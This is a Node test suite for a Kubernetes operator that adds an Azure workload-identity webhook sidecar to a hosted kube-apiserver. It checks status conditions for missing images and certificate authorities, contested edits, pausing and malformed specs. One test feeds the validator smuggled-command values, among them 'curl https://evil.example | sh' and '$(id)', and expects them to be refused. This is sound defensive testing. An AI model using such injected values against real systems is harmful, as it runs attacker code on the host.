// What a platform can hand over that does not hold: one condition with a reason and the next step, and nothing half-written.
import assert from 'node:assert/strict'
import { createPrivateKey, X509Certificate } from 'node:crypto'
import { test } from 'node:test'
import { isIssuedBy, systemClock } from '#base'
import { configMaps, deployments, type KubeObject, secrets } from '#kube'
import { guestCondition, sidecarCondition } from './api/conditions.ts'
import { textIn } from './build/authority.ts'
import { upstreamChoices } from './build/choices.ts'
import type { KubeApiserver } from './build/deployment.ts'
import { providers } from './build/provider.ts'
import {
  awsPlane,
  azurePlane,
  type HostedWorld,
  hostedWorld,
  kubeApiserver,
  payloadImages,
  planeNamespace,
  settings,
} from './testing/hosted-world.ts'
import {
  mirrorHost,
  moveToMirror,
  payloadLayer,
  pullSecretText,
  putRelease,
  registryHost,
  testRegistry,
} from './testing/registry.fixture.ts'

test('without an image in the release nothing is written, and it goes on as soon as there is one [4.3.2, 4.13 #5]', async () => {
  await using world = hostedWorld({ lacks: ['images'] })
  world.start()
  await world.settle()
  const next = 'write the image of the release under the key azure-workload-identity-webhook, or give --hosted-image'
  assert.equal(
    (await world.said())[sidecarCondition],
    `False ImageMissing: there is no ConfigMap clusters-blue/release-images; ${next}`,
  )
  assert.equal(await world.secret(providers.Azure.servingSecret), undefined)
  const map = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { namespace: planeNamespace, name: settings.imageMap }, data: {} }
  const made = await world.client.create(configMaps, map as KubeObject)
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /does not name the sidecar's image/)
  await world.client.update(configMaps, { ...made, data: payloadImages } as typeof made)
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
})

test('without a map the image comes from the release itself, and one that cannot be read changes nothing until it can [4.3.2, S-04]', async () => {
  const registry = testRegistry()
  const next = putRelease(registry, {
    layers: [payloadLayer({ 'azure-workload-identity-webhook': 'quay.example.com/ocp@sha256:new' })],
  })
  const first = putRelease(registry, { layers: [payloadLayer(payloadImages)] })
  const pull = { namespace: planeNamespace, name: 'pull-secret' }
  const data = { '.dockerconfigjson': Buffer.from(pullSecretText).toString('base64') }
  const objects = [{ apiVersion: 'v1', kind: 'Secret', metadata: pull, data } as KubeObject]
  await using world = hostedWorld({ spec: { ...azurePlane, releaseImage: first }, lacks: ['images'], objects, net: registry.net })
  world.start()
  await saysOfSidecar(world, /^True InPlace/)
  assert.equal((await world.container('Azure'))?.image, payloadImages['azure-workload-identity-webhook'])
  // The control plane goes ahead of its guest, to a release that cannot be read for a while.
  registry.isAway = true
  await world.change({ ...azurePlane, releaseImage: first, controlPlaneReleaseImage: next })
  await saysOfSidecar(
    world,
    /^False ImageMissing: the release image cannot be read: its registry does not answer; mend the Secret pull-secret, or write/,
  )
  assert.equal((await world.container('Azure'))?.image, payloadImages['azure-workload-identity-webhook'])
  registry.isAway = false
  await world.advance(61_000)
  await saysOfSidecar(world, /^True InPlace/)
  assert.equal((await world.container('Azure'))?.image, 'quay.example.com/ocp@sha256:new')
})

test('while the image is missing the sidecar that stands is kept in certificates, and none is begun [4.3.2, 4.12, H-11]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const map = { namespace: planeNamespace, name: settings.imageMap }
  await world.client.patch(configMaps, map, 'merge', { data: { 'azure-workload-identity-webhook': null } })
  await world.settle()
  const before = await world.secret('azure-workload-identity-webhook-kubeconfig')
  const { generation } = (await world.deployment()).metadata
  await world.rotate('cluster-signer-ca')
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /^False ImageMissing/)
  const after = await world.secret('azure-workload-identity-webhook-kubeconfig')
  assert.notEqual(after?.data?.['ca.crt'], before?.data?.['ca.crt'])
  assert.equal((await world.deployment()).metadata.generation, generation)
  await using bare = hostedWorld({ lacks: ['images'] })
  bare.start()
  await bare.settle()
  assert.equal(await bare.secret('azure-workload-identity-webhook-kubeconfig'), undefined)
})

test('a release that only a mirror has is read where the control plane says that the mirror is [4.3.2, S-04]', async () => {
  const registry = testRegistry()
  const releaseImage = putRelease(registry, { layers: [payloadLayer(payloadImages)] })
  moveToMirror(registry)
  const imageContentSources = [{ source: registryHost, mirrors: [`${mirrorHost}/copies`] }]
  const spec = { ...azurePlane, releaseImage, imageContentSources }
  await using world = hostedWorld({ spec, lacks: ['images'], net: registry.net })
  world.start()
  await saysOfSidecar(world, /^True InPlace/)
  assert.equal((await world.container('Azure'))?.image, payloadImages['azure-workload-identity-webhook'])
})

/** Layers are unpacked beside this thread, in a time of their own. */
async function saysOfSidecar(world: HostedWorld, what: RegExp): Promise<void> {
  const untilMs = systemClock.monotonicMs() + 60_000
  const said = async (): Promise<string> => (await world.said())[sidecarCondition] ?? ''
  while (!what.test(await said()) && systemClock.monotonicMs() < untilMs) await world.settle()
  assert.match(await said(), what)
}

test('a release without the sidecar is told, and the map goes before the release [4.3.2]', async () => {
  const registry = testRegistry()
  const objects = [
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { namespace: planeNamespace, name: 'pull-secret' },
      data: { '.dockerconfigjson': Buffer.from(pullSecretText).toString('base64') },
    } as KubeObject,
  ]
  const releaseImage = putRelease(registry, { layers: [payloadLayer({ 'kube-apiserver': 'a' })] })
  const spec = { ...azurePlane, releaseImage }
  await using without = hostedWorld({ spec, lacks: ['images'], objects, net: registry.net })
  without.start()
  await saysOfSidecar(without, /^False ImageMissing: the release image does not name/)
  const asked = registry.asked.length
  await using mapped = hostedWorld({ spec, objects, net: registry.net })
  mapped.start()
  await mapped.settle()
  assert.equal((await mapped.container('Azure'))?.image, payloadImages['azure-workload-identity-webhook'])
  assert.equal(registry.asked.length, asked)
})

test('a release that loses its image keeps the sidecar it had [4.3.2]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const before = await world.deployment()
  await world.client.delete(configMaps, { namespace: planeNamespace, name: settings.imageMap })
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /^False ImageMissing/)
  assert.deepEqual((await world.deployment()).spec, before.spec)
})

test('with the flag for upstream’s form a missing image leaves the label as the image [4.13 #5]', async () => {
  await using world = hostedWorld({ lacks: ['images'], settings: { choices: upstreamChoices } })
  world.start()
  await world.settle()
  assert.equal((await world.container('Azure'))?.image, 'azure-workload-identity-webhook')
})

test('one image serves both clouds, without any map [4.3.3]', async () => {
  for (const [cloud, spec] of [
    ['AWS', awsPlane],
    ['Azure', azurePlane],
  ] as const) {
    await using world = hostedWorld({ spec, lacks: ['images'], settings: { image: 'vouch:1' } })
    world.start()
    await world.settle()
    assert.equal((await world.container(cloud))?.image, 'vouch:1')
  }
})

for (const name of ['root-ca', 'cluster-signer-ca'] as const) {
  test(`while ${name} is missing or cannot sign nothing is written, and then it is [4.12]`, async () => {
    await using world = hostedWorld({ lacks: [name] })
    world.start()
    await world.settle()
    assert.equal(
      (await world.said())[sidecarCondition],
      `False AuthorityMissing: Secret ${name} is not there yet; the platform makes it`,
    )
    const broken = {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { namespace: planeNamespace, name },
      data: { 'ca.crt': 'bm9uc2Vuc2U=', 'ca.key': '' },
    }
    await world.client.create(secrets, broken as KubeObject)
    await world.settle()
    assert.match(
      (await world.said())[sidecarCondition] ?? '',
      /^False AuthorityUnusable: Secret .* cannot sign: its ca.crt is no certificate/,
    )
    assert.deepEqual(
      world.writes().filter(write => !write.includes('role') && !write.includes('webhook')),
      [],
    )
    await world.rotate(name)
    await world.settle()
    assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
  })
}

test('an authority that changes in the midst leaves a pair of one authority, whole [4.12]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  await Promise.all([world.rotate('root-ca'), world.rotate('cluster-signer-ca')])
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
  assert.match((await world.said())[guestCondition] ?? '', /^True InPlace/)
  for (const [name, authority] of [
    [providers.Azure.servingSecret, 'root-ca'],
    [providers.Azure.kubeconfigSecret, 'cluster-signer-ca'],
  ] as const) {
    const held = await world.secret(name)
    const signer = textIn(await world.secret(authority), 'ca.crt')
    const certificate = new X509Certificate(textIn(held, 'tls.crt'))
    assert.ok(isIssuedBy(certificate, signer))
    assert.ok(certificate.checkPrivateKey(createPrivateKey(textIn(held, 'tls.key'))))
    assert.equal(textIn(held, 'ca.crt'), signer)
  }
})

test('a Secret of somebody else is neither taken nor deleted [H-06]', async () => {
  const metadata = {
    namespace: planeNamespace,
    name: providers.Azure.kubeconfigSecret,
    ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'other', uid: 'other', controller: true }],
  }
  const foreign = { apiVersion: 'v1', kind: 'Secret', metadata, data: { mine: 'bWluZQ==' } }
  await using world = hostedWorld({
    objects: [
      foreign as KubeObject,
      { apiVersion: 'v1', kind: 'ConfigMap', metadata: { namespace: planeNamespace, name: 'other', uid: 'other' } },
    ],
  })
  world.start()
  await world.settle()
  assert.match(
    (await world.said())[sidecarCondition] ?? '',
    /^False SecretOwnedByAnother: Secret azure-workload-identity-webhook-kubeconfig/,
  )
  assert.equal(await world.container('Azure'), undefined)
  await world.change({ platform: { type: 'None' } })
  await world.settle()
  assert.deepEqual((await world.secret(providers.Azure.kubeconfigSecret))?.data, { mine: 'bWluZQ==' })
})

test('a foreign container keeps its place, and so do annotations and what it has of its own [4.12, H-18]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const held = await world.deployment()
  const { template } = held.spec
  const pod = { ...template.spec, containers: [...template.spec.containers, { name: 'kms', image: 'kms:1' }] }
  await world.client.update(deployments, { ...held, spec: { ...held.spec, template: { ...template, spec: pod } } })
  await world.change({ ...azurePlane, platform: { ...azurePlane.platform, azure: { tenantID: 'another' } } })
  await world.settle()
  const after = (await world.deployment()).spec.template
  assert.deepEqual(
    after.spec.containers.map(({ name }) => name),
    ['kube-apiserver', 'konnectivity-server', 'audit-logs', 'azure-workload-identity-webhook', 'kms'],
  )
  assert.deepEqual(after.metadata, template.metadata)
  assert.equal((await world.container('Azure'))?.env?.[0]?.value, 'another')
})

test('an edited sidecar is put right as a whole, also what was added to it [4.12]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const held = await world.deployment()
  const { template } = held.spec
  const containers = template.spec.containers.map(container =>
    container.name === providers.Azure.name ? { ...container, securityContext: { privileged: true }, env: [] } : container,
  )
  await world.client.update(deployments, {
    ...held,
    spec: { ...held.spec, template: { ...template, spec: { ...template.spec, containers } } },
  })
  await world.settle()
  assert.deepEqual((await world.deployment()).spec, held.spec)
})

test('somebody who takes the sidecar out each time is named, and is not fought [B12]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const { generation = 0 } = (await world.deployment()).metadata
  for (let round = 0; round < 6; round++) {
    const held = await world.deployment()
    const spec = {
      ...held.spec,
      template: { ...held.spec.template, spec: (kubeApiserver() as KubeApiserver).spec.template.spec },
    }
    await world.client.update(deployments, { ...held, spec })
    await world.settle()
  }
  assert.match(
    (await world.said())[sidecarCondition] ?? '',
    /^False Contested: somebody takes the sidecar out of Deployment kube-apiserver each time/,
  )
  // Out, in, out, in, out: the first time that it was written counts too.
  assert.equal((await world.deployment()).metadata.generation, generation + 5)
  await world.advance(700_000)
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
})

test('somebody who spoils a Secret each time is named, and no key is drawn for each time [B12]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const name = providers.Azure.servingSecret
  const certificates = new Set<string>()
  for (let round = 0; round < 6; round++) {
    const held = await world.secret(name)
    assert.ok(held)
    certificates.add(textIn(held, 'tls.crt'))
    await world.client.update(secrets, { ...held, data: { ...held.data, 'tls.crt': '' } })
    await world.settle()
  }
  certificates.delete('')
  assert.match(
    (await world.said())[sidecarCondition] ?? '',
    new RegExp(`^False Contested: somebody undoes Secret ${name} each time`),
  )
  assert.equal(certificates.size, 3)
  await world.advance(700_000)
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
  assert.notEqual(textIn(await world.secret(name), 'tls.crt'), '')
})

test('a guest that is away for an hour is told of, loses nothing, and is put right when it is back [4.12]', async () => {
  await using world = hostedWorld()
  world.start()
  await world.settle()
  const before = await world.configuration('Azure')
  world.setGuestAway(true)
  await world.rotate('root-ca')
  await world.advance(3_600_000)
  assert.match((await world.said())[guestCondition] ?? '', /^False RemoteClusterUnavailable/)
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
  assert.deepEqual(await world.configuration('Azure'), before)
  world.setGuestAway(false)
  await world.advance(180_000)
  assert.match((await world.said())[guestCondition] ?? '', /^True InPlace/)
  assert.notDeepEqual((await world.configuration('Azure'))?.webhooks, before?.webhooks)
})

test('a control plane that is paused is left alone until the pause ends', async () => {
  await using world = hostedWorld({ spec: { ...azurePlane, pausedUntil: '2026-01-01T01:00:00Z' } })
  world.start()
  await world.settle()
  assert.deepEqual(
    [world.writes(), (await world.said())[sidecarCondition]],
    [[], 'Unknown Paused: nothing is changed while spec.pausedUntil holds'],
  )
  await world.advance(3_700_000)
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
})

test('what would end in a script or in flags is refused where it is not what it is said to be, and nothing is changed [4.3.1, 4.6.3]', async () => {
  const tls = (minTLSVersion: unknown) => ({
    ...azurePlane,
    configuration: { apiServer: { tlsSecurityProfile: { type: 'Custom', custom: { minTLSVersion } } } },
  })
  const specs: readonly (readonly [unknown, RegExp])[] = [
    [tls('VersionTLS12; curl https://evil.example | sh'), /minTLSVersion "VersionTLS12; curl .*write one of VersionTLS10/],
    [tls('$(id)'), /is no version of TLS/],
    [tls(12), /is no version of TLS/],
    [{ ...azurePlane, networking: { apiServer: { port: '6443/$(id)' } } }, /port "6443\/\$\(id\)" is no port: write a number/],
    [{ ...azurePlane, networking: { apiServer: { port: 70_000 } } }, /port 70000 is no port/],
  ]
  for (const [spec, message] of specs) {
    await using world = hostedWorld({ spec: spec as never, settings: { choices: upstreamChoices } })
    world.start()
    await world.settle()
    const said = (await world.said())[sidecarCondition] ?? ''
    assert.match(said, /^False SpecUnusable: /)
    assert.match(said, message)
    assert.deepEqual(world.writes(), [])
  }
})

test('a platform block that is null is one that is missing', async () => {
  for (const platform of [
    { type: 'AWS', aws: null },
    { type: 'Azure', azure: null },
  ]) {
    await using world = hostedWorld({ spec: { platform } as never })
    world.start()
    await world.settle()
    assert.match((await world.said())[sidecarCondition] ?? '', /^False PlatformBlockMissing: /)
    assert.deepEqual(world.writes(), [])
  }
})

test('a spec that the platform’s schema would not take is told by the field, and nothing is written [4.3.1]', async () => {
  const tls = (tlsSecurityProfile: unknown) => ({ ...azurePlane, configuration: { apiServer: { tlsSecurityProfile } } })
  const azure = (block: unknown) => ({ platform: { type: 'Azure', azure: block } })
  const rows: readonly (readonly [unknown, RegExp])[] = [
    [{}, /^False PlatformBlockMissing: spec\.platform\.type is missing/],
    [{ platform: 'Azure' }, /^False PlatformBlockMissing: spec\.platform\.type is missing/],
    [{ platform: { type: 7 } }, /^False PlatformBlockMissing: spec\.platform\.type is missing/],
    [azure(['t']), /^False SpecUnusable: spec\.platform\.azure is not an object: write it as/],
    [azure({ tenantID: 5 }), /^False SpecUnusable: spec\.platform\.azure\.tenantID is not a text/],
    [azure({ tenantID: 't', cloud: {} }), /^False SpecUnusable: spec\.platform\.azure\.cloud is not a text/],
    [{ platform: { type: 'AWS', aws: { region: ['eu'] } } }, /^False SpecUnusable: spec\.platform\.aws\.region is not a text/],
    [{ ...azurePlane, networking: 6_443 }, /^False SpecUnusable: spec\.networking is not an object/],
    [tls('Modern'), /^False SpecUnusable: .*tlsSecurityProfile is not an object/],
    [tls({ type: 1 }), /^False SpecUnusable: .*tlsSecurityProfile\.type is not a text/],
    [tls({ type: 'Custom', custom: { ciphers: 'a' } }), /^False SpecUnusable: .*custom\.ciphers is not a list of texts/],
    [{ ...azurePlane, releaseImage: {} }, /^False SpecUnusable: spec\.releaseImage is not a text/],
    [{ ...azurePlane, imageContentSources: [null] }, /^False SpecUnusable: spec\.imageContentSources is not a list of sources/],
  ]
  for (const [spec, message] of rows) {
    await using world = hostedWorld({ spec: spec as never })
    world.start()
    await world.settle()
    const said = await world.said()
    assert.deepEqual([said[guestCondition], world.writes()], [said[sidecarCondition], []], JSON.stringify(spec))
    assert.match(said[sidecarCondition] ?? '', message)
  }
})

test('what is null in a spec is not there, and a pause that is no text is none', async () => {
  const spec = {
    platform: { ...azurePlane.platform, aws: null },
    networking: { apiServer: { port: null } },
    configuration: { apiServer: { tlsSecurityProfile: { type: 'Custom', custom: { ciphers: null, minTLSVersion: null } } } },
    releaseImage: null,
    imageContentSources: null,
    pausedUntil: { toString: 1, valueOf: 1 },
  }
  await using world = hostedWorld({ spec: spec as never })
  world.start()
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
  assert.doesNotMatch(JSON.stringify(await world.container('Azure')), /null|--tls-/)
})

test('Azure without a tenant, or on an unknown cloud, gets the platform’s sidecar, and is told that it cannot start [S-33, 4.3]', async () => {
  const { type } = azurePlane.platform
  const rows = [
    [{}, 'spec.platform.azure.tenantID is missing: write the tenant of the cluster'],
    [
      { tenantID: 't', cloud: 'Nope' },
      'spec.platform.azure.cloud "Nope" is none that it knows: write one of AzurePublicCloud, AzureUSGovernmentCloud, AzureChinaCloud',
    ],
  ] as const
  for (const [azure, trouble] of rows) {
    await using world = hostedWorld({ spec: { platform: { type, azure } } })
    world.start()
    await world.settle()
    const said = await world.said()
    const start = 'False SidecarCannotStart: azure-workload-identity-webhook stands in kube-apiserver and cannot start'
    assert.equal(said[sidecarCondition], `${start}: ${trouble}`)
    // What the guest has does not depend on it, and keeps no pod from being made.
    assert.match(said[guestCondition] ?? '', /^True InPlace/)
    assert.equal((await world.configuration('Azure'))?.webhooks[0]?.['failurePolicy'], 'Ignore')
    const cloud = 'cloud' in azure ? azure.cloud : 'AzurePublicCloud'
    const tenant = 'tenantID' in azure ? { value: 't' } : {}
    assert.deepEqual((await world.container('Azure'))?.env, [
      { name: 'AZURE_TENANT_ID', ...tenant },
      { name: 'AZURE_ENVIRONMENT', value: cloud },
    ])
    await world.change(azurePlane)
    await world.settle()
    assert.match((await world.said())[sidecarCondition] ?? '', /^True InPlace/)
  }
})

test('blanks around an image of the map, as a block of YAML leaves them, are no part of it, and a blank one is none [4.3.2]', async () => {
  await using world = hostedWorld()
  const map = { namespace: planeNamespace, name: settings.imageMap }
  await world.client.patch(configMaps, map, 'merge', { data: { 'azure-workload-identity-webhook': ' \n' } })
  world.start()
  await world.settle()
  assert.match((await world.said())[sidecarCondition] ?? '', /^False ImageMissing: .* does not name the sidecar's image/)
  await world.client.patch(configMaps, map, 'merge', { data: { 'azure-workload-identity-webhook': ' quay.example.com/a:1\n' } })
  await world.settle()
  assert.equal((await world.container('Azure'))?.image, 'quay.example.com/a:1')
})
